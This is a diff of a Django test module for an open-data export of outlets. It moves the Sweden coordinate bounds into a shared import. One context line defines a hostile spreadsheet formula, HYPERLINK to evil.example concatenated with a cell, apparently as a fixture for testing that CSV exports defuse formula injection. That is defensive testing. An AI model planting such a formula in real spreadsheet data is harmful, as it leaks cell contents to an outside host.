@@ -16,6 +16,7 @@ from django.utils.http import http_date
 from rdflib import RDF, Graph, Literal, Namespace, URIRef
 
 from followup.tests.factories import signed_agreement
+from outlets.geo import SWEDEN_LATITUDE, SWEDEN_LONGITUDE
 from outlets.models import Outlet
 from outlets.tests.factories import OutletFactory, municipality
 from public.opendata import COLUMN_NAMES, LICENSE_URL
@@ -28,8 +29,6 @@ FOAF = Namespace("http://xmlns.com/foaf/0.1/")
 VCARD = Namespace("http://www.w3.org/2006/vcard/ns#")
 CC0 = URIRef(LICENSE_URL)
 HOSTILE = '=HYPERLINK("http://evil.example/"&C3,"Öppna")'
-# Sweden within a margin: 55.0–69.1 °N, 10.9–24.2 °E.
-SWEDEN_LATITUDES, SWEDEN_LONGITUDES = (55.0, 69.1), (10.9, 24.2)
 DATA_URLS = ["opendata:geojson", "opendata:csv", "opendata:dcat"]
 
 
@@ -55,8 +54,8 @@ def assert_rfc7946(document):
         assert len(position) == 2
         assert all(isinstance(number, (int, float)) for number in position)
         longitude, latitude = position
-        assert SWEDEN_LONGITUDES[0] <= longitude <= SWEDEN_LONGITUDES[1], position
-        assert SWEDEN_LATITUDES[0] <= latitude <= SWEDEN_LATITUDES[1], position
+        assert SWEDEN_LONGITUDE[0] <= longitude <= SWEDEN_LONGITUDE[1], position
+        assert SWEDEN_LATITUDE[0] <= latitude <= SWEDEN_LATITUDE[1], position
 
 
 def geojson(response):
